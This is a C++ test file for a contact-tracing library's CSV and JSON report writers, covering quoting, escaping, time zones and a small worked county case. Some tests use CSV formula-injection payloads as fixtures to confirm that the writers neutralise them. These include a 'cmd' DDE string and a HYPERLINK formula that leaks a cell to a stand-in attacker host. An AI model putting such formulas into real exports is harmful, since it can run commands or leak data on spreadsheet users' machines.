// Copyright 2026 The ContactLedger Authors.
//
// Tests of contactledger/report.h: the roster and open loops as CSV and JSON
// (the column order, empty and null values, times in the given zone, CSV
// quoting that reads back through the library's own RFC 4180 reader, JSON
// escaping that protobuf's JSON parser accepts), and the writers over a
// Tracer's answers for a small county worked out by hand.

#include "contactledger/report.h"

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "absl/time/civil_time.h"
#include "absl/time/time.h"
#include "contactledger/ledger.h"
#include "contactledger/tracing.h"
#include "contactledger/v1/ledger.pb.h"
#include "gmock/gmock.h"
#include "google/protobuf/struct.pb.h"
#include "google/protobuf/util/json_util.h"
#include "gtest/gtest.h"
#include "lib/import/csv.h"

namespace contactledger {
namespace {

using ::testing::ElementsAre;

const absl::TimeZone kChina = absl::FixedTimeZone(8 * 3600);

absl::Time Jan2020(int day, int hour, int minute = 0) {
  return absl::FromCivil(absl::CivilMinute(2020, 1, day, hour, minute), kChina);
}

// p1's story in the tracer tests: a gathering with `other` on the 24th,
// 18:00-21:00; in hospital from the 26th, 11:00; confirmed on the 27th,
// 10:00, with onset on the 25th.
void CaseStory(const std::string& other, v1::LedgerEvent* exposure,
               v1::LedgerEvent* stay, v1::LedgerEvent* diagnosis) {
  v1::Exposure* dinner = exposure->mutable_exposure();
  dinner->set_person_a("p1");
  dinner->set_person_b(other);
  dinner->mutable_start()->set_seconds(absl::ToUnixSeconds(Jan2020(24, 18)));
  dinner->mutable_end()->set_seconds(absl::ToUnixSeconds(Jan2020(24, 21)));
  dinner->set_setting(v1::EXPOSURE_SETTING_GATHERING);
  v1::QuarantineAction* action = stay->mutable_quarantine_action();
  action->set_person_id("p1");
  action->set_action(v1::QUARANTINE_ACTION_KIND_START);
  action->set_place(v1::QUARANTINE_PLACE_HOSPITAL);
  action->mutable_time()->set_seconds(absl::ToUnixSeconds(Jan2020(26, 11)));
  v1::Diagnosis* confirmed = diagnosis->mutable_diagnosis();
  confirmed->set_person_id("p1");
  confirmed->set_status(v1::DIAGNOSIS_STATUS_CONFIRMED);
  confirmed->mutable_onset()->set_year(2020);
  confirmed->mutable_onset()->set_month(1);
  confirmed->mutable_onset()->set_day(25);
  confirmed->mutable_time()->set_seconds(absl::ToUnixSeconds(Jan2020(27, 10)));
}

RosterEntry Case(const std::string& id) {
  RosterEntry e;
  e.person_id = id;
  e.role = Role::kCase;
  e.place = v1::QUARANTINE_PLACE_HOSPITAL;
  e.required_since = Jan2020(27, 10);
  return e;
}

RosterEntry Contact(const std::string& id, Role role, const std::string& source,
                    absl::Time last_exposure,
                    std::optional<absl::CivilDay> until,
                    v1::QuarantinePlace place) {
  RosterEntry e;
  e.person_id = id;
  e.role = role;
  e.source = source;
  e.last_exposure = last_exposure;
  e.until = until;
  e.continuous = !until.has_value();
  e.place = place;
  return e;
}

OpenLoop Loop(const std::string& id, LoopKind kind, absl::Time since,
              const std::string& detail) {
  OpenLoop l;
  l.person_id = id;
  l.kind = kind;
  l.since = since;
  l.detail = detail;
  return l;
}

// The fields of every CSV record, read back by the importer's RFC 4180
// reader.
std::vector<std::vector<std::string>> ReadCsv(const std::string& text) {
  absl::StatusOr<std::vector<internal::CsvRecord>> records =
      internal::ParseCsv(text);
  EXPECT_TRUE(records.ok()) << records.status();
  std::vector<std::vector<std::string>> fields;
  if (records.ok()) {
    for (const internal::CsvRecord& r : *records) fields.push_back(r.fields);
  }
  return fields;
}

// The JSON text parsed by protobuf's JSON parser (which rejects anything
// that is not RFC 8259).
google::protobuf::ListValue ReadJsonArray(const std::string& text) {
  google::protobuf::ListValue list;
  const auto status = google::protobuf::util::JsonStringToMessage(
      google::protobuf::StringPiece(text.data(), text.size()), &list);
  EXPECT_TRUE(status.ok()) << status.message() << "\n" << text;
  return list;
}

const google::protobuf::Value& Field(const google::protobuf::ListValue& list,
                                     int row, const std::string& name) {
  return list.values(row).struct_value().fields().at(name);
}

TEST(RosterCsvTest, HeaderThenOneLinePerEntryInColumnOrder) {
  const std::vector<RosterEntry> roster = {
      Case("p1"),
      Contact("p2", Role::kCloseContact, "p1", Jan2020(26, 11),
              absl::CivilDay(2020, 2, 9), v1::QUARANTINE_PLACE_CENTRALIZED),
      Contact("p4", Role::kCloseContact, "p9", Jan2020(28, 12), std::nullopt,
              v1::QUARANTINE_PLACE_CENTRALIZED),
      Contact("p5", Role::kSecondaryContact, "p2", Jan2020(25, 9),
              absl::CivilDay(2020, 2, 1), v1::QUARANTINE_PLACE_HOME),
  };
  EXPECT_EQ(WriteRosterCsv(roster, kChina),
            "person_id,role,source,last_exposure,until,continuous,place\n"
            "p1,case,,,,,hospital\n"
            "p2,close_contact,p1,2020-01-26T11:00:00+08:00,2020-02-09,false,"
            "centralized\n"
            "p4,close_contact,p9,2020-01-28T12:00:00+08:00,,true,centralized\n"
            "p5,secondary_contact,p2,2020-01-25T09:00:00+08:00,2020-02-01,"
            "false,home\n");
}

TEST(RosterCsvTest, TimesAreRfc3339WithTheOffsetOfTheGivenZone) {
  const std::vector<RosterEntry> roster = {
      Contact("p2", Role::kCloseContact, "p1", Jan2020(26, 11, 30),
              absl::CivilDay(2020, 2, 9), v1::QUARANTINE_PLACE_HOME)};
  EXPECT_EQ(ReadCsv(WriteRosterCsv(roster, absl::UTCTimeZone()))[1][3],
            "2020-01-26T03:30:00+00:00");
  EXPECT_EQ(ReadCsv(WriteRosterCsv(roster, kChina))[1][3],
            "2020-01-26T11:30:00+08:00");
}

TEST(RosterCsvTest, UnspecifiedPlaceIsEmpty) {
  RosterEntry e =
      Contact("p2", Role::kCloseContact, "p1", Jan2020(26, 11),
              absl::CivilDay(2020, 2, 9), v1::QUARANTINE_PLACE_UNSPECIFIED);
  EXPECT_EQ(ReadCsv(WriteRosterCsv({e}, kChina))[1][6], "");
}

TEST(RosterJsonTest, OneObjectPerLineWithNullsForTheEmptyFieldsOfACase) {
  const std::vector<RosterEntry> roster = {
      Case("p1"), Contact("p4", Role::kCloseContact, "p1", Jan2020(28, 12),
                          std::nullopt, v1::QUARANTINE_PLACE_CENTRALIZED)};
  EXPECT_EQ(WriteRosterJson(roster, kChina),
            "[\n"
            "  {\"person_id\": \"p1\", \"role\": \"case\", \"source\": null, "
            "\"last_exposure\": null, \"until\": null, \"continuous\": null, "
            "\"place\": \"hospital\"},\n"
            "  {\"person_id\": \"p4\", \"role\": \"close_contact\", "
            "\"source\": \"p1\", \"last_exposure\": "
            "\"2020-01-28T12:00:00+08:00\", \"until\": null, \"continuous\": "
            "true, \"place\": \"centralized\"}\n"
            "]\n");
  const google::protobuf::ListValue list =
      ReadJsonArray(WriteRosterJson(roster, kChina));
  ASSERT_EQ(list.values_size(), 2);
  EXPECT_TRUE(Field(list, 0, "continuous").has_null_value());
  EXPECT_TRUE(Field(list, 1, "continuous").bool_value());
  EXPECT_EQ(Field(list, 1, "last_exposure").string_value(),
            "2020-01-28T12:00:00+08:00");
}

TEST(ReportTest, NothingToReportIsTheHeaderAloneOrAnEmptyArray) {
  EXPECT_EQ(WriteRosterCsv({}, kChina),
            "person_id,role,source,last_exposure,until,continuous,place\n");
  EXPECT_EQ(WriteRosterJson({}, kChina), "[]\n");
  EXPECT_EQ(WriteLoopsCsv({}, kChina), "person_id,kind,since,detail\n");
  EXPECT_EQ(WriteLoopsJson({}, kChina), "[]\n");
}

TEST(LoopsCsvTest, DetailWithCommaQuoteOrLineBreakIsQuotedAndReadsBack) {
  const std::vector<OpenLoop> loops = {
      Loop("p1", LoopKind::kMissedCheck, Jan2020(26, 23), "plain detail"),
      Loop("p3", LoopKind::kFeverNotEscalated, Jan2020(28, 10),
           "37.4 °C, \"cough\"\r\nsecond line\nthird"),
      Loop("p,4", LoopKind::kUnregistered, Jan2020(24, 18), ""),
  };
  const std::string csv = WriteLoopsCsv(loops, kChina);
  EXPECT_EQ(csv,
            "person_id,kind,since,detail\n"
            "p1,missed_check,2020-01-26T23:00:00+08:00,plain detail\n"
            "p3,fever_not_escalated,2020-01-28T10:00:00+08:00,"
            "\"37.4 °C, \"\"cough\"\"\r\nsecond line\nthird\"\n"
            "\"p,4\",unregistered,2020-01-24T18:00:00+08:00,\n");
  EXPECT_THAT(
      ReadCsv(csv),
      ElementsAre(
          ElementsAre("person_id", "kind", "since", "detail"),
          ElementsAre("p1", "missed_check", "2020-01-26T23:00:00+08:00",
                      "plain detail"),
          ElementsAre("p3", "fever_not_escalated", "2020-01-28T10:00:00+08:00",
                      "37.4 °C, \"cough\"\r\nsecond line\nthird"),
          ElementsAre("p,4", "unregistered", "2020-01-24T18:00:00+08:00", "")));
}

TEST(LoopsJsonTest, EveryKindByItsRulesNameAndInfiniteSinceAsNull) {
  std::vector<OpenLoop> loops;
  for (int k = 0; k < 8; ++k) {
    loops.push_back(Loop("p1", static_cast<LoopKind>(k), Jan2020(28, k), "d"));
  }
  loops.push_back(Loop("p2", LoopKind::kUnregistered, absl::InfinitePast(),
                       "line\nbreak \"quoted\" back\\slash"));
  const google::protobuf::ListValue list =
      ReadJsonArray(WriteLoopsJson(loops, kChina));
  ASSERT_EQ(list.values_size(), 9);
  const char* const kKinds[] = {
      "unplaced",          "unisolated_case",     "early_release",
      "missed_check",      "fever_not_escalated", "no_owner",
      "checkpoint_breach", "unregistered"};
  for (int k = 0; k < 8; ++k) {
    EXPECT_EQ(Field(list, k, "kind").string_value(), kKinds[k]);
  }
  EXPECT_EQ(Field(list, 3, "since").string_value(),
            "2020-01-28T03:00:00+08:00");
  EXPECT_TRUE(Field(list, 8, "since").has_null_value());
  EXPECT_EQ(Field(list, 8, "detail").string_value(),
            "line\nbreak \"quoted\" back\\slash");
  // Fields in the CSV column order.
  EXPECT_EQ(WriteLoopsJson({loops[0]}, kChina),
            "[\n  {\"person_id\": \"p1\", \"kind\": \"unplaced\", \"since\": "
            "\"2020-01-28T00:00:00+08:00\", \"detail\": \"d\"}\n]\n");
}

TEST(CsvFieldTest, QuotesOnlyWhatMustBeQuoted) {
  EXPECT_EQ(CsvField("plain"), "plain");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvField("沅陵县 37.4 °C; tab\there"), "沅陵县 37.4 °C; tab\there");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("cr\r"), "\"cr\r\"");
  EXPECT_EQ(CsvField("lf\n"), "\"lf\n\"");
  EXPECT_EQ(CsvRow({"a", "b,c", ""}), "a,\"b,c\",\n");
}

// Issue 15, finding 4: a cell a spreadsheet would run as a formula gets a
// "'" in front, inside the quoting; integers are numbers and stay as they are.
TEST(CsvFieldTest, FormulasAreNeutralisedInsideTheQuoting) {
  EXPECT_EQ(CsvField("=1+2"), "'=1+2");
  EXPECT_EQ(CsvField("+1+2"), "'+1+2");
  EXPECT_EQ(CsvField("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
  EXPECT_EQ(CsvField("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(CsvField("\t=1"), "'\t=1");
  EXPECT_EQ(CsvField("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(CsvField("=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"x\"\")\"");
  EXPECT_EQ(CsvField("-"), "'-");
  EXPECT_EQ(CsvField("-1.5"), "'-1.5");
  // Integers, negative ones included, and cells with a trigger later on.
  EXPECT_EQ(CsvField("-7"), "-7");
  EXPECT_EQ(CsvField("42"), "42");
  EXPECT_EQ(CsvField("a=b"), "a=b");
  EXPECT_EQ(CsvField("2020-01-24T21:00:00+08:00"), "2020-01-24T21:00:00+08:00");
  EXPECT_EQ(CsvRow({"=x", "-3", "p1"}), "'=x,-3,p1\n");
  // The "'" is data: the RFC 4180 reader reads it back with the text.
  EXPECT_THAT(ReadCsv(CsvRow({"=a,b", "@c"})),
              ElementsAre(ElementsAre("'=a,b", "'@c")));
}

TEST(CsvFormulaTest, EveryCsvWriterNeutralisesTextAndKeepsNumbers) {
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")";
  const std::string neutral = "'" + formula;
  // Roster and loops.
  RosterEntry contact =
      Contact(formula, Role::kCloseContact, "@case", Jan2020(24, 21),
              absl::CivilDay(2020, 2, 7), v1::QUARANTINE_PLACE_HOME);
  EXPECT_THAT(
      ReadCsv(WriteRosterCsv({contact}, kChina))[1],
      ElementsAre(neutral, "close_contact", "'@case",
                  "2020-01-24T21:00:00+08:00", "2020-02-07", "false", "home"));
  EXPECT_THAT(ReadCsv(WriteLoopsCsv({Loop(formula, LoopKind::kUnregistered,
                                          Jan2020(24, 18), "+detail")},
                                    kChina))[1],
              ElementsAre(neutral, "unregistered", "2020-01-24T18:00:00+08:00",
                          "'+detail"));
  // Explanation: a negative overlap is a number and stays one.
  Explanation x;
  x.person_id = "-p9";
  x.in_roster = true;
  x.role = Role::kCloseContact;
  Explanation::Source source;
  source.person_id = formula;
  source.rule = "exposure";
  source.exposures = {3};
  source.first = Jan2020(24, 18);
  source.last_exposure = Jan2020(24, 21);
  source.overlap = absl::Seconds(-60);
  x.sources.push_back(source);
  std::vector<std::vector<std::string>> rows =
      ReadCsv(WriteExplanationCsv(x, kChina));
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1][0], "'-p9");
  EXPECT_EQ(rows[1][3], neutral);
  EXPECT_EQ(rows[1][8], "-60");
  // Roll-up: area id and name.
  AreaRollupRow area;
  area.area_id = "@v1";
  area.name = "=cmd|' /C calc'!A0";
  area.persons = 3;
  rows = ReadCsv(WriteAreaRollupCsv({area}));
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1][0], "'@v1");
  EXPECT_EQ(rows[1][1], "'=cmd|' /C calc'!A0");
  EXPECT_EQ(rows[1][2], "3");
  // Contacts, pass decision, chains.
  EXPECT_EQ(WriteContactsCsv({ContactAtDistance{formula, 1}}),
            "person_id,hops\n" + CsvField(formula) + ",1\n");
  PassDecision decision;
  decision.allowed = false;
  decision.verdict = PassVerdict::kRefused;
  decision.reason = "-in roster";
  EXPECT_THAT(ReadCsv(WritePassDecisionCsv(formula, "+gate", decision))[1],
              ElementsAre(neutral, "'+gate", "refused", "'-in roster"));
  TransmissionChain chain;
  chain.cases = {"=a", "b"};
  chain.edges.push_back(TransmissionChain::Edge{"=a", "b", "exposure", {4}});
  EXPECT_THAT(ReadCsv(WriteTransmissionChainsCsv({chain}))[1],
              ElementsAre("1", "'=a", "b", "exposure", "4"));
  // Audit trail: the actor and the detail.
  AuditEntry entry;
  entry.sequence_number = 5;
  entry.record_time = Jan2020(24, 18);
  entry.actor = "@worker";
  entry.kind = v1::LedgerEvent::kExposure;
  rows = ReadCsv(WriteAuditTrailCsv({entry}, {"=detail"}, kChina));
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1][0], "5");
  EXPECT_EQ(rows[1][2], "'@worker");
  EXPECT_EQ(rows[1].back(), "'=detail");
  EXPECT_EQ(ReadCsv(WriteAuditTrailCsv({entry}, kChina))[1][2], "'@worker");
}

TEST(JsonStringTest, EscapesQuotesBackslashesAndControlCharacters) {
  EXPECT_EQ(JsonString("plain 沅陵"), "\"plain 沅陵\"");
  EXPECT_EQ(JsonString("a\"b\\c"), "\"a\\\"b\\\\c\"");
  EXPECT_EQ(JsonString("\n\r\t"), "\"\\n\\r\\t\"");
  EXPECT_EQ(JsonString(std::string("\x01\x1f\0", 3)),
            "\"\\u0001\\u001f\\u0000\"");
  EXPECT_EQ(JsonString("\x7f"), "\"\x7f\"");  // DEL needs no escape
}

TEST(JsonArrayTest, OneItemPerLineAndEmptyOnOneLine) {
  EXPECT_EQ(JsonArray({}), "[]\n");
  EXPECT_EQ(JsonArray({"1"}), "[\n  1\n]\n");
  EXPECT_EQ(JsonArray({"{\"a\": 1}", "null"}), "[\n  {\"a\": 1},\n  null\n]\n");
  EXPECT_EQ(ReadJsonArray(JsonArray({"1", "true", "\"x\""})).values_size(), 3);
}

TEST(QuarantinePlaceNameTest, NamesEveryPlaceAndNothingForUnspecified) {
  EXPECT_EQ(QuarantinePlaceName(v1::QUARANTINE_PLACE_HOSPITAL), "hospital");
  EXPECT_EQ(QuarantinePlaceName(v1::QUARANTINE_PLACE_CENTRALIZED),
            "centralized");
  EXPECT_EQ(QuarantinePlaceName(v1::QUARANTINE_PLACE_HOME), "home");
  EXPECT_EQ(QuarantinePlaceName(v1::QUARANTINE_PLACE_UNSPECIFIED), "");
  EXPECT_EQ(QuarantinePlaceName(static_cast<v1::QuarantinePlace>(99)), "");
}

// A case p1 (onset 01-25, hospital from 01-26 11:00, confirmed 01-27 10:00)
// who lives with p2 and dined with the unregistered p3 on 01-24 18:00-21:00.
// At 01-28 12:00 under china-2020 (docs/rules.md): p1's window is [01-23 00:00,
// 01-26 11:00); p2 is a household close contact, last exposure 01-26 11:00,
// until 01-26 + 14 = 02-09; p3 a close contact, last exposure 01-24 21:00,
// until 02-07; both must be centralized. required_since is the diagnosis
// time, so both are unplaced since 01-28 10:00; p3 has no household
// (no_owner since 01-27 10:00) and was never registered (since 01-24 18:00);
// p1 has had no check in hospital since 01-26 11:00 (missed_check from
// 23:00, 12 h later).
TEST(ReportOfATracerTest, RosterAndLoopsOfASmallCountyWorkedOutByHand) {
  LedgerOptions options;
  options.time_zone = kChina;
  std::unique_ptr<Ledger> ledger = Ledger::New(options);
  std::vector<v1::LedgerEvent> events(7);
  events[0].mutable_area()->set_id("c");
  events[0].mutable_area()->set_level(v1::AREA_LEVEL_COUNTY);
  events[1].mutable_household()->set_id("h1");
  events[1].mutable_household()->set_area_id("c");
  events[1].mutable_household()->set_responsible_worker("w");
  for (int i : {2, 3}) {
    events[i].mutable_person()->set_id(i == 2 ? "p1" : "p2");
    events[i].mutable_person()->set_household_id("h1");
  }
  CaseStory("p3", &events[4], &events[5], &events[6]);
  ASSERT_TRUE(ledger->AppendBatch(events).ok());

  QueryOptions query;
  query.at = Jan2020(28, 12);
  absl::StatusOr<std::unique_ptr<Tracer>> tracer =
      Tracer::Create(*ledger, query);
  ASSERT_TRUE(tracer.ok()) << tracer.status();
  EXPECT_EQ(WriteRosterCsv((*tracer)->Roster(), kChina),
            "person_id,role,source,last_exposure,until,continuous,place\n"
            "p1,case,,,,,hospital\n"
            "p2,close_contact,p1,2020-01-26T11:00:00+08:00,2020-02-09,false,"
            "centralized\n"
            "p3,close_contact,p1,2020-01-24T21:00:00+08:00,2020-02-07,false,"
            "centralized\n");
  std::vector<std::vector<std::string>> loops =
      ReadCsv(WriteLoopsCsv((*tracer)->OpenLoops(), kChina));
  ASSERT_EQ(loops.size(), 6u);
  std::vector<std::vector<std::string>> key_fields;
  for (const auto& row : loops) {
    key_fields.push_back({row[0], row[1], row[2]});
  }
  EXPECT_THAT(
      key_fields,
      ElementsAre(
          ElementsAre("person_id", "kind", "since"),
          ElementsAre("p1", "missed_check", "2020-01-26T23:00:00+08:00"),
          ElementsAre("p2", "unplaced", "2020-01-28T10:00:00+08:00"),
          ElementsAre("p3", "unplaced", "2020-01-28T10:00:00+08:00"),
          ElementsAre("p3", "no_owner", "2020-01-27T10:00:00+08:00"),
          ElementsAre("p3", "unregistered", "2020-01-24T18:00:00+08:00")));
  const google::protobuf::ListValue roster_json =
      ReadJsonArray(WriteRosterJson((*tracer)->Roster(), kChina));
  ASSERT_EQ(roster_json.values_size(), 3);
  EXPECT_EQ(Field(roster_json, 2, "until").string_value(), "2020-02-07");
}

// Issue 15, finding 4, end to end: a village worker records an exposure to
// an unregistered id that is a formula, in an area whose name is one; the
// county's roster, loops, contacts and roll-up CSV carry them as text.
TEST(ReportOfATracerTest, AFormulaIdOrAreaNameIsTextInEveryCsv) {
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")";
  LedgerOptions options;
  options.time_zone = kChina;
  std::unique_ptr<Ledger> ledger = Ledger::New(options);
  std::vector<v1::LedgerEvent> events(6);
  events[0].mutable_area()->set_id("c");
  events[0].mutable_area()->set_level(v1::AREA_LEVEL_COUNTY);
  events[1].mutable_area()->set_id("v1");
  events[1].mutable_area()->set_parent_id("c");
  events[1].mutable_area()->set_level(v1::AREA_LEVEL_TOWNSHIP);
  events[1].mutable_area()->set_name("@SUM(1+1)*cmd|' /C calc'!A0");
  events[2].mutable_person()->set_id("p1");
  events[2].mutable_person()->set_area_id("v1");
  CaseStory(formula, &events[3], &events[4], &events[5]);
  {
    absl::Status appended = ledger->AppendBatch(events).status();
    ASSERT_TRUE(appended.ok()) << appended;
  }

  QueryOptions query;
  query.at = Jan2020(28, 12);
  absl::StatusOr<std::unique_ptr<Tracer>> tracer =
      Tracer::Create(*ledger, query);
  ASSERT_TRUE(tracer.ok()) << tracer.status();
  const std::string neutral = "'" + formula;
  // No CSV cell a spreadsheet reads begins with a formula's first character.
  const auto no_live_formula = [](const std::string& csv) {
    for (const std::vector<std::string>& row : ReadCsv(csv)) {
      for (const std::string& cell : row) {
        EXPECT_TRUE(cell.empty() ||
                    std::string("=+-@\t\r").find(cell[0]) == std::string::npos)
            << cell << " in\n"
            << csv;
      }
    }
  };
  const std::string roster = WriteRosterCsv((*tracer)->Roster(), kChina);
  no_live_formula(roster);
  ASSERT_EQ(ReadCsv(roster).size(), 3u) << roster;
  EXPECT_EQ(ReadCsv(roster)[1][0], neutral) << roster;
  const std::string loops = WriteLoopsCsv((*tracer)->OpenLoops(), kChina);
  no_live_formula(loops);
  bool unregistered = false;
  for (const std::vector<std::string>& row : ReadCsv(loops)) {
    if (row[1] == "unregistered") {
      EXPECT_EQ(row[0], neutral);
      unregistered = true;
    }
  }
  EXPECT_TRUE(unregistered) << loops;
  absl::StatusOr<std::vector<ContactAtDistance>> contacts =
      Contacts(*ledger, "p1", 1, Jan2020(1, 0), Jan2020(31, 0));
  ASSERT_TRUE(contacts.ok()) << contacts.status();
  const std::string contacts_csv = WriteContactsCsv(*contacts);
  no_live_formula(contacts_csv);
  ASSERT_EQ(ReadCsv(contacts_csv).size(), 2u) << contacts_csv;
  EXPECT_EQ(ReadCsv(contacts_csv)[1][0], neutral);
  absl::StatusOr<std::vector<AreaRollupRow>> rollup =
      (*tracer)->AreaRollup("c");
  ASSERT_TRUE(rollup.ok()) << rollup.status();
  const std::string rollup_csv = WriteAreaRollupCsv(*rollup);
  no_live_formula(rollup_csv);
  ASSERT_GE(ReadCsv(rollup_csv).size(), 2u) << rollup_csv;
  EXPECT_EQ(ReadCsv(rollup_csv)[1][1], "'@SUM(1+1)*cmd|' /C calc'!A0");
  // JSON is not changed: the id is a JSON string as it was recorded.
  EXPECT_NE(WriteRosterJson((*tracer)->Roster(), kChina)
                .find("\"person_id\": \"=HYPERLINK("),
            std::string::npos);
}

}  // namespace
}  // namespace contactledger
